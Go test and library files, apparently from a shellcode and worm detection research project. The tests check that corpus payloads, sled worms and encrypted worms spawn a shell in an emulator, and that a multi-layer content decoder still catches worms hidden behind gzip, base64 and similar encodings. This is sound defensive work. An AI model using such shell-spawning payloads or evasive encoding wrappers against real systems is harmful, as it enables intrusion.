	for _, sc := range Corpus() {
		sc := sc
		t.Run(sc.Name, func(t *testing.T) {
			out := runPayload(t, sc.Code)
			if sc.SpawnsShell {
				if !out.ShellSpawned() {
					t.Fatalf("%s: no shell: stop=%v fault=%+v syscalls=%+v",
						sc.Name, out.Kind, out.Fault, out.Syscalls)
				}
			} else if out.Kind != emu.StopExit {
				t.Fatalf("%s: expected clean exit, got %v (fault %+v)", sc.Name, out.Kind, out.Fault)
			}
		})
	}
}

func TestCorpusNamesUnique(t *testing.T) {
	seen := map[string]bool{}
	for _, sc := range Corpus() {
		if seen[sc.Name] {
			t.Errorf("duplicate name %q", sc.Name)
		}
		seen[sc.Name] = true
	}
}

func TestCorpusIsBinaryNotText(t *testing.T) {
	// The point of the paper: these payloads are binary; ASCII filters
	// would mangle them.
	for _, sc := range Corpus() {
		if IsText(sc.Code) {
			t.Errorf("%s is pure text; corpus must be binary", sc.Name)
		}
	}
}

func TestVariantsAllSpawnShell(t *testing.T) {
	variants := Variants(42, 30)
	if len(variants) != 30 {
		t.Fatalf("got %d variants", len(variants))
	}
	for _, sc := range variants {
		out := runPayload(t, sc.Code)
		if !out.ShellSpawned() {
			t.Fatalf("%s did not spawn shell: %v %+v (code % x)",
				sc.Name, out.Kind, out.Fault, sc.Code)
		}
	}
}

func TestVariantsDeterministic(t *testing.T) {
	a := Variants(7, 10)
	b := Variants(7, 10)
	for i := range a {
		if string(a[i].Code) != string(b[i].Code) {
			t.Fatalf("variant %d differs between identical seeds", i)
		}
	}
	c := Variants(8, 10)
	same := 0
	for i := range a {
		if string(a[i].Code) == string(c[i].Code) {
			same++
		}
	}
	if same == len(a) {
		t.Error("different seeds produced identical variant sets")
	}
}

func TestSledWormSpawnsShell(t *testing.T) {
	sc := SledWorm(500)
	out := runPayload(t, sc.Code)
	if !out.ShellSpawned() {
		t.Fatalf("sled worm: %v %+v", out.Kind, out.Fault)
	}
	if len(sc.Code) != 500+24 {
		t.Errorf("sled worm length %d", len(sc.Code))
	}
	// Negative sled length is clamped.
	if got := len(SledWorm(-5).Code); got != 24 {
		t.Errorf("negative sled length gave %d bytes", got)
	}
}

func TestRegisterSpringWormSpawnsShell(t *testing.T) {
	loadAddr := uint32(emu.DefaultBase + 0x1000)
	sc := RegisterSpringWorm(loadAddr, 0x7F)
	out := runPayload(t, sc.Code)
	if !out.ShellSpawned() {
		t.Fatalf("register-spring worm: %v %+v", out.Kind, out.Fault)
	}
}

func TestRegisterSpringWormIsEncrypted(t *testing.T) {
	sc := RegisterSpringWorm(0x1000, 0x55)
	// The execve byte pattern must not appear in clear.
	plain := Execve().Code
	if containsSub(sc.Code, plain[:8]) {
		t.Error("payload appears unencrypted in the worm body")
	}
	// Zero key is rewritten to a usable one (key 0 = no encryption).
	sc = RegisterSpringWorm(0x1000, 0)
	if containsSub(sc.Code, plain[:8]) {
		t.Error("zero key must not produce a cleartext worm")
	}
}

func TestRegisterSpringDecrypterIsTiny(t *testing.T) {
	// Section 4.1: binary decrypters are short. The non-payload part of
	// the worm (the decrypter) is 16 bytes.
	sc := RegisterSpringWorm(0x1000, 0x7F)
	decrypterLen := len(sc.Code) - len(Execve().Code)
	if decrypterLen > 20 {
		t.Errorf("binary decrypter is %d bytes; paper says binary decrypters are tiny", decrypterLen)
	}
}

func TestMaxTextRun(t *testing.T) {
	if got := MaxTextRun([]byte("abc\x00defg")); got != 4 {
		t.Errorf("MaxTextRun = %d, want 4", got)
	}
	if got := MaxTextRun(nil); got != 0 {
		t.Errorf("MaxTextRun(nil) = %d", got)
	}
	if got := MaxTextRun([]byte("all text here")); got != 13 {
		t.Errorf("MaxTextRun = %d, want 13", got)
	}
}

func TestIsText(t *testing.T) {
	if !IsText([]byte("hello")) || IsText([]byte{0x90}) || IsText([]byte{0x41, 0x1F}) {
		t.Error("IsText misclassifies")
	}
}

func containsSub(haystack, needle []byte) bool {
	for i := 0; i+len(needle) <= len(haystack); i++ {
		match := true
		for j := range needle {
			if haystack[i+j] != needle[j] {
				match = false
				break
			}
		}
		if match {
			return true
		}
	}
	return false
}

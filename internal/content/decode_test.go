package content

import (
	"bytes"
	"errors"
	"testing"
)

func mustDecoder(t *testing.T, cfg DecoderConfig) *Decoder {
	t.Helper()
	d, err := NewDecoder(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// samplePayload is realistic-looking text long enough for every sniffer
// to engage, with a high byte so UTF-8 expansion has something to widen.
func samplePayload() []byte {
	var buf bytes.Buffer
	for i := 0; i < 40; i++ {
		buf.WriteString("GET /index.html HTTP/1.1 host example com q=\x80\x01\x02 ")
	}
	return buf.Bytes()
}

// collect drains a Views iterator into views and the terminal error.
func collect(d *Decoder, payload []byte) (views []View, err error) {
	for v, e := range d.Views(payload, 0) {
		if e != nil {
			return views, e
		}
		views = append(views, v)
	}
	return views, nil
}

func TestViewsRoundTripSingleLayer(t *testing.T) {
	d := mustDecoder(t, DecoderConfig{})
	payload := samplePayload()
	for k := Kind(1); int(k) < numKinds; k++ {
		enc, err := Encode(k, payload)
		if err != nil {
			t.Fatalf("%v: %v", k, err)
		}
		views, err := collect(d, enc)
		if err != nil {
			t.Fatalf("%v: %v", k, err)
		}
		found := false
		for _, v := range views {
			if v.Chain.Len() == 1 && v.Chain.At(0) == k {
				found = true
				if !bytes.Equal(v.Data, payload) {
					t.Errorf("%v: decoded view differs from original", k)
				}
			}
		}
		if !found {
			t.Errorf("%v: no depth-1 view of that kind; got %d views", k, len(views))
		}
	}
}

func TestViewsNestedLayers(t *testing.T) {
	d := mustDecoder(t, DecoderConfig{})
	payload := samplePayload()
	chain, err := ParseChain("chunked>gzip>base64")
	if err != nil {
		t.Fatal(err)
	}
	enc, err := EncodeChain(chain, payload)
	if err != nil {
		t.Fatal(err)
	}
	views, err := collect(d, enc)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, v := range views {
		if v.Chain.String() == "chunked>gzip>base64" {
			found = true
			if !bytes.Equal(v.Data, payload) {
				t.Error("triple-wrapped view differs from original")
			}
		}
	}
	if !found {
		var got []string
		for _, v := range views {
			got = append(got, v.Chain.String())
		}
		t.Fatalf("no chunked>gzip>base64 view; chains seen: %v", got)
	}
}

func TestViewsPlainTextYieldsNothing(t *testing.T) {
	d := mustDecoder(t, DecoderConfig{})
	plain := []byte("The quick brown fox jumps over the lazy dog. " +
		"Nothing here is encoded, framed, compressed, or escaped at all.")
	views, err := collect(d, plain)
	if err != nil {
		t.Fatal(err)
	}
	if len(views) != 0 {
		var got []string
		for _, v := range views {
			got = append(got, v.Chain.String())
		}
		t.Fatalf("plain text produced views: %v", got)
	}
}

func TestViewsDepthBound(t *testing.T) {
	d := mustDecoder(t, DecoderConfig{MaxDepth: 2})
	payload := samplePayload()
	chain, _ := ParseChain("gzip>gzip>gzip")
	enc, err := EncodeChain(chain, payload)
	if err != nil {
		t.Fatal(err)
	}
	views, err := collect(d, enc)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range views {
		if v.Depth() > 2 {
			t.Fatalf("depth %d view exceeds MaxDepth 2 (%s)", v.Depth(), v.Chain.String())
		}
	}
	// The per-call override can only lower the bound further.
	for v := range d.Views(enc, 1) {
		if v.Depth() > 1 {
			t.Fatalf("depth %d view exceeds override depth 1", v.Depth())
		}
	}
}

func TestViewsBudgetGuard(t *testing.T) {
	// A 1 MiB zero run compresses to ~1 KiB; a 4 KiB budget must trip.
	bomb := EncodeGzip(make([]byte, 1<<20))
	d := mustDecoder(t, DecoderConfig{MaxOutput: 4096})
	views, err := collect(d, bomb)
	if !errors.Is(err, ErrDecodeBudget) {
		t.Fatalf("err = %v, want ErrDecodeBudget", err)
	}
	if len(views) != 0 {
		t.Fatalf("budget-tripped decode still yielded %d views", len(views))
	}
}

func TestViewsBudgetSharedAcrossViews(t *testing.T) {
	payload := samplePayload()
	enc, err := EncodeChain(mustChain(t, "gzip>gzip"), payload)
	if err != nil {
		t.Fatal(err)
	}
	// Budget covers the first inflate (the small inner gzip member) but
	// not the second (the full payload, after the first spent some).
	d := mustDecoder(t, DecoderConfig{MaxOutput: int64(len(payload))})
	views, err := collect(d, enc)
	if !errors.Is(err, ErrDecodeBudget) {
		t.Fatalf("err = %v, want ErrDecodeBudget (views=%d)", err, len(views))
	}
	if len(views) == 0 {
		t.Fatal("expected at least the first view before the budget tripped")
	}
}

func mustChain(t *testing.T, s string) Chain {
	t.Helper()
	c, err := ParseChain(s)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestMIMEBase64Body(t *testing.T) {
	d := mustDecoder(t, DecoderConfig{})
	payload := samplePayload()
	views, err := collect(d, EncodeMIMEBase64(payload))
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range views {
		if v.Chain.Len() == 1 && v.Chain.At(0) == KindBase64 && bytes.Equal(v.Data, payload) {
			return
		}
	}
	t.Fatal("MIME-framed base64 body not decoded")
}

func TestQuotedPrintableRoundTrip(t *testing.T) {
	d := mustDecoder(t, DecoderConfig{})
	payload := []byte("caf\xe9 na\xefve r\xe9sum\xe9 " + string(samplePayload()))
	enc, err := EncodeQuotedPrintable(payload)
	if err != nil {
		t.Fatal(err)
	}
	views, err := collect(d, enc)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range views {
		if v.Chain.Len() == 1 && v.Chain.At(0) == KindQuotedPrintable && bytes.Equal(v.Data, payload) {
			return
		}
	}
	t.Fatal("quoted-printable body not decoded")
}

func TestChunkedRejectsPlainHTTP(t *testing.T) {
	d := mustDecoder(t, DecoderConfig{})
	// A body that merely starts with hex digits must not be parsed as
	// chunked framing.
	req := []byte("deadbeef is a classic sentinel value used in debugging and memory analysis")
	for v := range d.Views(req, 0) {
		if v.Chain.Len() > 0 && v.Chain.At(0) == KindChunked {
			t.Fatal("plain text misread as chunked")
		}
	}
}

func TestChainWireRoundTrip(t *testing.T) {
	chains := []string{"", "gzip", "chunked>gzip>base64", "utf8>percent>qp"}
	for _, s := range chains {
		c := mustChain(t, s)
		wire := c.AppendWire(nil)
		got, n := ChainFromWire(wire)
		if n != len(wire) || got != c {
			t.Fatalf("%q: wire round-trip broke (n=%d len=%d)", s, n, len(wire))
		}
		if got.String() != s {
			t.Fatalf("%q: round-tripped to %q", s, got.String())
		}
	}
	if _, n := ChainFromWire([]byte{9, 1, 1, 1, 1, 1, 1, 1, 1, 1}); n != 0 {
		t.Fatal("overlong chain accepted")
	}
	if _, n := ChainFromWire([]byte{1, 0xff}); n != 0 {
		t.Fatal("unknown kind accepted")
	}
}

func TestParseChainErrors(t *testing.T) {
	if _, err := ParseChain("gzip>nope"); err == nil {
		t.Fatal("unknown layer name accepted")
	}
	if _, err := ParseChain("gzip>gzip>gzip>gzip>gzip>gzip>gzip>gzip>gzip"); err == nil {
		t.Fatal("overlong chain accepted")
	}
}

func TestPercentRoundTrip(t *testing.T) {
	d := mustDecoder(t, DecoderConfig{})
	payload := samplePayload()
	views, err := collect(d, EncodePercent(payload))
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range views {
		if v.Chain.Len() == 1 && v.Chain.At(0) == KindPercent && bytes.Equal(v.Data, payload) {
			return
		}
	}
	t.Fatal("percent-encoded body not decoded")
}

func TestUTF8FoldsHighRunes(t *testing.T) {
	d := mustDecoder(t, DecoderConfig{})
	payload := samplePayload()
	views, err := collect(d, ExpandUTF8(payload))
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range views {
		if v.Chain.Len() == 1 && v.Chain.At(0) == KindUTF8 && bytes.Equal(v.Data, payload) {
			return
		}
	}
	t.Fatal("UTF-8 expansion not folded back")
}

func TestNewDecoderValidation(t *testing.T) {
	if _, err := NewDecoder(DecoderConfig{MaxDepth: MaxChainLen + 1}); err == nil {
		t.Fatal("MaxDepth above MaxChainLen accepted")
	}
	if _, err := NewDecoder(DecoderConfig{MaxOutput: -1}); err == nil {
		t.Fatal("negative MaxOutput accepted")
	}
	d := mustDecoder(t, DecoderConfig{})
	if d.MaxDepth() != DefaultMaxDepth {
		t.Fatalf("default MaxDepth = %d", d.MaxDepth())
	}
}

package content

import (
	"testing"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/telemetry"
	"repro/internal/telemetry/tracing"
)

func newTestPipeline(t *testing.T, cfg PipelineConfig) (*Pipeline, *core.Detector) {
	t.Helper()
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	p, err := NewPipeline(det.ScanTraced, cfg)
	if err != nil {
		t.Fatal(err)
	}
	return p, det
}

// hostCase returns one benign corpus case.
func hostCase(t *testing.T, seed uint64) []byte {
	t.Helper()
	cases, err := corpus.Dataset(seed, 1, 4096)
	if err != nil {
		t.Fatal(err)
	}
	return cases[0].Data
}

func testWorm(t *testing.T, seed uint64) *encoder.Worm {
	t.Helper()
	w, err := encoder.Encode(make([]byte, 64), encoder.Options{Seed: seed})
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// TestPipelineClearsBenign: a benign text case is cleared by triage —
// no MEL pass, TriageCleared set, low score.
func TestPipelineClearsBenign(t *testing.T) {
	scans := 0
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	counting := func(b []byte, tr *tracing.Trace) (core.Verdict, error) {
		scans++
		return det.ScanTraced(b, tr)
	}
	p, err := NewPipeline(counting, PipelineConfig{})
	if err != nil {
		t.Fatal(err)
	}
	v, err := p.Scan(hostCase(t, 3))
	if err != nil {
		t.Fatal(err)
	}
	if !v.TriageCleared || v.Malicious {
		t.Fatalf("verdict = %+v, want cleared benign", v)
	}
	if scans != 0 {
		t.Fatalf("MEL pass ran %d times on a cleared payload", scans)
	}
	if v.TriageScore >= 0.5 {
		t.Fatalf("cleared score = %.3f", v.TriageScore)
	}
}

// TestPipelineCatchesRawWorm: an unwrapped worm window is flagged on
// the raw pass with ViewIndex 0 and no decode chain.
func TestPipelineCatchesRawWorm(t *testing.T) {
	p, _ := newTestPipeline(t, PipelineConfig{})
	w := testWorm(t, 5)
	v, err := p.Scan(wormWindow(hostCase(t, 5), w.Bytes))
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Fatal("raw worm window not flagged")
	}
	if v.ViewIndex != 0 || v.DecodeChain != "" {
		t.Fatalf("raw hit has ViewIndex=%d chain=%q", v.ViewIndex, v.DecodeChain)
	}
	if v.TriageCleared {
		t.Fatal("malicious verdict marked cleared")
	}
}

// TestPipelineCatchesWrappedWorm is the tentpole property: a worm
// window behind every encoding layer is still flagged. For layers that
// hide the worm from a raw scan entirely (gzip makes it binary, base64
// rewrites every byte), the verdict must come from a decoded view with
// the chain recorded; layers that leave worm bytes intact (chunked
// framing, qp/percent/utf8 pass-through of printable ASCII) may flag
// on the raw pass instead — either way nothing slips through.
func TestPipelineCatchesWrappedWorm(t *testing.T) {
	p, det := newTestPipeline(t, PipelineConfig{})
	w := testWorm(t, 9)
	window := wormWindow(hostCase(t, 9), w.Bytes)
	hiding := map[string]bool{"gzip": true, "base64": true, "gzip>base64": true, "chunked>gzip": true}
	for _, chainStr := range []string{"gzip", "base64", "chunked", "qp", "percent", "utf8", "gzip>base64", "chunked>gzip"} {
		chain := mustChain(t, chainStr)
		wrapped, err := EncodeChain(chain, window)
		if err != nil {
			t.Fatalf("%s: %v", chainStr, err)
		}
		v, err := p.Scan(wrapped)
		if err != nil {
			t.Fatalf("%s: %v", chainStr, err)
		}
		if !v.Malicious {
			t.Fatalf("%s: wrapped worm not detected", chainStr)
		}
		if !hiding[chainStr] {
			continue
		}
		// Premise for gzip-outermost wrappers: the raw bytes really do
		// scan clean, so detection had to come through the decoder.
		if chain.At(0) == KindGzip {
			if raw, err := det.Scan(wrapped); err == nil && raw.Malicious {
				t.Fatalf("%s: wrapped worm flagged by the raw scan; wrapper is not hiding it", chainStr)
			}
		}
		if v.DecodeChain != chainStr {
			t.Fatalf("chain = %q, want %q", v.DecodeChain, chainStr)
		}
		if v.ViewIndex < 1 {
			t.Fatalf("%s: ViewIndex = %d", chainStr, v.ViewIndex)
		}
	}
}

// TestPipelineDifferentialVerdict pins that the verdict found through
// a wrapper matches the raw bytes' verdict exactly (same MEL, same
// BestStart): decoding is transparent to the model.
func TestPipelineDifferentialVerdict(t *testing.T) {
	p, det := newTestPipeline(t, PipelineConfig{})
	for seed := uint64(0); seed < 8; seed++ {
		w := testWorm(t, seed)
		window := wormWindow(hostCase(t, seed), w.Bytes)
		want, err := det.Scan(window)
		if err != nil {
			t.Fatal(err)
		}
		if !want.Malicious {
			t.Fatalf("seed %d: raw window not malicious; test premise broken", seed)
		}
		for _, chainStr := range []string{"gzip", "base64"} {
			wrapped, err := EncodeChain(mustChain(t, chainStr), window)
			if err != nil {
				t.Fatal(err)
			}
			got, err := p.Scan(wrapped)
			if err != nil {
				t.Fatal(err)
			}
			if !got.Malicious || got.MEL != want.MEL || got.BestStart != want.BestStart {
				t.Errorf("seed %d %s: got (mal=%v mel=%d start=%d), raw (mel=%d start=%d)",
					seed, chainStr, got.Malicious, got.MEL, got.BestStart, want.MEL, want.BestStart)
			}
		}
	}
}

// TestPipelineTraceAndTelemetry: stage spans, content fields, and
// counters all land.
func TestPipelineTraceAndTelemetry(t *testing.T) {
	reg := telemetry.NewRegistry()
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	p, err := NewPipeline(det.ScanTraced, PipelineConfig{Registry: reg})
	if err != nil {
		t.Fatal(err)
	}

	w := testWorm(t, 2)
	wrapped, err := EncodeChain(mustChain(t, "gzip"), wormWindow(hostCase(t, 2), w.Bytes))
	if err != nil {
		t.Fatal(err)
	}
	tr := tracing.New(tracing.TraceID{}, len(wrapped))
	v, err := p.ScanTraced(wrapped, tr)
	if err != nil {
		t.Fatal(err)
	}
	tr.Finish()
	if !v.Malicious || v.DecodeChain != "gzip" {
		t.Fatalf("verdict = %+v", v)
	}
	if tr.StageDur(tracing.StageTriage) < 0 {
		t.Error("triage stage never closed")
	}
	if tr.StageDur(tracing.StageContentDecode) < 0 {
		t.Error("content_decode stage never closed")
	}
	if tr.ViewIndex != v.ViewIndex || tr.DecodeChain != "gzip" || tr.TriageCleared {
		t.Errorf("trace content fields: view=%d chain=%q cleared=%v", tr.ViewIndex, tr.DecodeChain, tr.TriageCleared)
	}
	if !tr.Malicious || tr.MEL != v.MEL {
		t.Errorf("trace verdict: mal=%v mel=%d want mel=%d", tr.Malicious, tr.MEL, v.MEL)
	}

	// A cleared benign scan bumps the cleared counter.
	if _, err := p.Scan(hostCase(t, 3)); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]float64{
		"content_scans_total":          2,
		"content_triage_cleared_total": 1,
		"content_view_malicious_total": 1,
	} {
		if got, ok := reg.Value(name); !ok || got != want {
			t.Errorf("%s = %v (ok=%v), want %v", name, got, ok, want)
		}
	}
	if got, ok := reg.Value("content_views_scanned_total"); !ok || got < 1 {
		t.Errorf("content_views_scanned_total = %v", got)
	}
}

// TestPipelineLoadShed: rising pressure drops decode depth before any
// scan is dropped; at full pressure the raw scan still runs.
func TestPipelineLoadShed(t *testing.T) {
	reg := telemetry.NewRegistry()
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	p, err := NewPipeline(det.ScanTraced, PipelineConfig{Registry: reg})
	if err != nil {
		t.Fatal(err)
	}
	w := testWorm(t, 4)
	window := wormWindow(hostCase(t, 4), w.Bytes)
	doubleWrapped, err := EncodeChain(mustChain(t, "gzip>base64"), window)
	if err != nil {
		t.Fatal(err)
	}

	if got := p.depthFor(); got != p.Decoder().MaxDepth() {
		t.Fatalf("idle depth = %d", got)
	}
	p.SetPressure(0.8)
	if got := p.depthFor(); got != 1 {
		t.Fatalf("depth at 0.8 pressure = %d, want 1", got)
	}
	// Depth 1 cannot reach the worm behind two layers...
	v, err := p.Scan(doubleWrapped)
	if err != nil {
		t.Fatal(err)
	}
	if v.Malicious {
		t.Fatal("depth-1 shed still peeled two layers")
	}
	// ...but a raw worm is still scanned and flagged even at max pressure.
	p.SetPressure(1.0)
	if got := p.depthFor(); got != 0 {
		t.Fatalf("depth at full pressure = %d, want 0", got)
	}
	v, err = p.Scan(window)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Fatal("raw worm missed under full pressure")
	}
	// A benign scan at full pressure skips decode entirely and counts
	// as a shed.
	if _, err := p.Scan(doubleWrapped); err != nil {
		t.Fatal(err)
	}
	if shed, _ := reg.Value("content_depth_shed_total"); shed < 2 {
		t.Fatalf("content_depth_shed_total = %v, want >= 2", shed)
	}
	// Back to idle: the wrapped worm is caught again.
	p.SetPressure(0)
	v, err = p.Scan(doubleWrapped)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious || v.DecodeChain != "gzip>base64" {
		t.Fatalf("post-shed verdict = %+v", v)
	}
}

// TestPipelineBudgetTrip: a zip bomb doesn't error the scan; the trip
// is counted and the raw verdict stands.
func TestPipelineBudgetTrip(t *testing.T) {
	reg := telemetry.NewRegistry()
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	p, err := NewPipeline(det.ScanTraced, PipelineConfig{
		Decoder:  DecoderConfig{MaxOutput: 2048},
		Registry: reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	bomb := EncodeGzip(make([]byte, 1<<20))
	v, err := p.Scan(bomb)
	if err != nil {
		t.Fatal(err)
	}
	if v.Malicious {
		t.Fatal("bomb flagged malicious")
	}
	if trips, _ := reg.Value("content_decode_budget_total"); trips != 1 {
		t.Fatalf("content_decode_budget_total = %v", trips)
	}
}

// TestNewPipelineValidation: constructor rejects bad inputs.
func TestNewPipelineValidation(t *testing.T) {
	if _, err := NewPipeline(nil, PipelineConfig{}); err == nil {
		t.Fatal("nil scan accepted")
	}
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := NewPipeline(det.ScanTraced, PipelineConfig{Decoder: DecoderConfig{MaxDepth: 99}}); err == nil {
		t.Fatal("bad decoder config accepted")
	}
}

package content

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"mime/quotedprintable"
	"unicode/utf8"
)

// Encode helpers — the inverse direction of the peelers. They exist for
// the corpus generators, the textworm/trafficgen commands, and the
// round-trip tests; the scan path never calls them.

// Encode wraps payload in one layer of kind k.
func Encode(k Kind, payload []byte) ([]byte, error) {
	switch k {
	case KindChunked:
		return EncodeChunked(payload, 512), nil
	case KindGzip:
		return EncodeGzip(payload), nil
	case KindBase64:
		return EncodeBase64(payload), nil
	case KindQuotedPrintable:
		return EncodeQuotedPrintable(payload)
	case KindPercent:
		return EncodePercent(payload), nil
	case KindUTF8:
		return ExpandUTF8(payload), nil
	}
	return nil, fmt.Errorf("content: cannot encode kind %d", k)
}

// EncodeChain applies every layer of chain to payload, innermost layer
// last — decoding the result peels the layers back in chain order.
func EncodeChain(chain Chain, payload []byte) ([]byte, error) {
	out := payload
	for i := chain.Len() - 1; i >= 0; i-- {
		var err error
		out, err = Encode(chain.At(i), out)
		if err != nil {
			return nil, err
		}
	}
	return out, nil
}

// EncodeChunked frames payload as HTTP/1.1 chunked transfer encoding
// with chunks of at most chunkSize bytes (0 selects 512).
func EncodeChunked(payload []byte, chunkSize int) []byte {
	if chunkSize <= 0 {
		chunkSize = 512
	}
	var buf bytes.Buffer
	for len(payload) > 0 {
		n := chunkSize
		if n > len(payload) {
			n = len(payload)
		}
		fmt.Fprintf(&buf, "%x\r\n", n)
		buf.Write(payload[:n])
		buf.WriteString("\r\n")
		payload = payload[n:]
	}
	buf.WriteString("0\r\n\r\n")
	return buf.Bytes()
}

// EncodeGzip compresses payload as one gzip member.
func EncodeGzip(payload []byte) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(payload)
	zw.Close()
	return buf.Bytes()
}

// EncodeBase64 encodes payload as standard base64 folded at 76 columns
// (MIME line length), matching what the base64 peeler accepts.
func EncodeBase64(payload []byte) []byte {
	flat := base64.StdEncoding.EncodeToString(payload)
	var buf bytes.Buffer
	for len(flat) > 76 {
		buf.WriteString(flat[:76])
		buf.WriteString("\r\n")
		flat = flat[76:]
	}
	buf.WriteString(flat)
	return buf.Bytes()
}

// EncodeMIMEBase64 frames payload as a minimal MIME part declaring
// Content-Transfer-Encoding: base64, the shape the .eml sniffer keys on.
func EncodeMIMEBase64(payload []byte) []byte {
	var buf bytes.Buffer
	buf.WriteString("MIME-Version: 1.0\r\n")
	buf.WriteString("Content-Type: application/octet-stream\r\n")
	buf.WriteString("Content-Transfer-Encoding: base64\r\n\r\n")
	buf.Write(EncodeBase64(payload))
	return buf.Bytes()
}

// EncodeQuotedPrintable frames payload as a minimal MIME part in
// quoted-printable encoding.
func EncodeQuotedPrintable(payload []byte) ([]byte, error) {
	var buf bytes.Buffer
	buf.WriteString("MIME-Version: 1.0\r\n")
	buf.WriteString("Content-Transfer-Encoding: quoted-printable\r\n\r\n")
	qw := quotedprintable.NewWriter(&buf)
	if _, err := qw.Write(payload); err != nil {
		return nil, err
	}
	if err := qw.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// percentSafe reports bytes left bare by EncodePercent: unreserved URL
// characters per RFC 3986.
func percentSafe(c byte) bool {
	return (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') ||
		(c >= '0' && c <= '9') || c == '-' || c == '.' || c == '_' || c == '~'
}

// EncodePercent percent-encodes every byte outside the RFC 3986
// unreserved set.
func EncodePercent(payload []byte) []byte {
	var buf bytes.Buffer
	for _, c := range payload {
		if percentSafe(c) {
			buf.WriteByte(c)
			continue
		}
		fmt.Fprintf(&buf, "%%%02X", c)
	}
	return buf.Bytes()
}

// ExpandUTF8 widens payload byte-by-byte into UTF-8: each byte becomes
// the rune of the same value, so high bytes turn into two-byte
// sequences. The UTF-8 peeler folds the result back exactly.
func ExpandUTF8(payload []byte) []byte {
	out := make([]byte, 0, len(payload)*2)
	for _, c := range payload {
		out = utf8.AppendRune(out, rune(c))
	}
	return out
}

package content

import (
	"bytes"
	"errors"
	"testing"
)

// FuzzDecodeViews drives the decoder with arbitrary payloads and
// bounds: it must never panic, every yielded view must respect the
// depth bound and carry a well-formed chain, total decoded output must
// stay within the budget, and the only error it may surface is the
// typed budget guard — once, as the final pair.
func FuzzDecodeViews(f *testing.F) {
	f.Add([]byte("GET /index.html HTTP/1.1\r\nHost: x\r\n\r\n"), 4, int64(1<<16))
	f.Add(EncodeGzip([]byte("TYQX----hAAAA^h@@@@_!q !y 1A padding padding")), 4, int64(1<<16))
	f.Add(EncodeBase64(EncodeGzip(bytes.Repeat([]byte("worm?"), 64))), 2, int64(1<<10))
	f.Add(EncodeChunked([]byte("4\r\nnest\r\n0\r\n\r\n"), 8), 8, int64(64))
	f.Add(EncodeMIMEBase64(bytes.Repeat([]byte{0x90}, 128)), 3, int64(256))
	f.Add(EncodePercent([]byte("%41%42 mixed \xff bytes")), 1, int64(1<<20))
	f.Add(ExpandUTF8(bytes.Repeat([]byte{0xCD, 0x80}, 40)), 4, int64(0))
	// A gzip bomb seed: tiny wire bytes, large decoded output.
	f.Add(EncodeGzip(make([]byte, 1<<20)), 4, int64(1<<10))

	f.Fuzz(func(t *testing.T, data []byte, maxDepth int, budget int64) {
		// Fold the fuzzed bounds into the decoder's accepted ranges; the
		// rejects have their own constructor tests.
		if maxDepth < 0 {
			maxDepth = -maxDepth
		}
		maxDepth = maxDepth%MaxChainLen + 1
		if budget < 0 {
			budget = -budget
		}
		budget = budget%(1<<20) + 1
		dec, err := NewDecoder(DecoderConfig{MaxDepth: maxDepth, MaxOutput: budget})
		if err != nil {
			t.Fatalf("config rejected after folding: %v", err)
		}

		var total int64
		sawErr := false
		for view, verr := range dec.Views(data, 0) {
			if sawErr {
				t.Fatal("iteration continued past the terminal error pair")
			}
			if verr != nil {
				if !errors.Is(verr, ErrDecodeBudget) {
					t.Fatalf("unexpected error kind: %v", verr)
				}
				if view.Data != nil || view.Chain.Len() != 0 {
					t.Fatalf("error pair carries a view: %+v", view)
				}
				sawErr = true
				continue
			}
			d := view.Depth()
			if d < 1 || d > maxDepth {
				t.Fatalf("view depth %d outside 1..%d", d, maxDepth)
			}
			for i := 0; i < view.Chain.Len(); i++ {
				if k := view.Chain.At(i); k < 1 || int(k) >= numKinds {
					t.Fatalf("chain layer %d is invalid kind %d", i, k)
				}
			}
			total += int64(len(view.Data))
			if total > budget {
				t.Fatalf("yielded %d decoded bytes, budget %d", total, budget)
			}
		}
	})
}

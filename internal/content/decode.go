package content

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"errors"
	"io"
	"iter"
	"mime/quotedprintable"
	"unicode/utf8"
)

// Decoder defaults.
const (
	// DefaultMaxDepth is the default recursion bound: at most this many
	// layers are peeled from one payload (gzip inside base64 inside
	// chunked is depth 3).
	DefaultMaxDepth = 4
	// DefaultMaxOutput is the default total decoded-output budget per
	// payload across every view — the zip-bomb guard. A 1 MiB request
	// expanding past 8 MiB of views is cut off with ErrDecodeBudget.
	DefaultMaxOutput = 8 << 20
	// minSniffLen is the shortest payload any sniffer considers: below
	// this, layer detection is noise.
	minSniffLen = 16
)

// DecoderConfig bounds a Decoder. Zero values select the defaults.
type DecoderConfig struct {
	// MaxDepth bounds the decode recursion (1..MaxChainLen); 0 selects
	// DefaultMaxDepth.
	MaxDepth int
	// MaxOutput bounds the total decoded bytes produced for one payload
	// across all views; 0 selects DefaultMaxOutput.
	MaxOutput int64
}

// Decoder peels encoding layers off payloads. It is stateless and safe
// for concurrent use.
type Decoder struct {
	maxDepth  int
	maxOutput int64
}

// NewDecoder validates cfg and returns a Decoder.
func NewDecoder(cfg DecoderConfig) (*Decoder, error) {
	if cfg.MaxDepth == 0 {
		cfg.MaxDepth = DefaultMaxDepth
	}
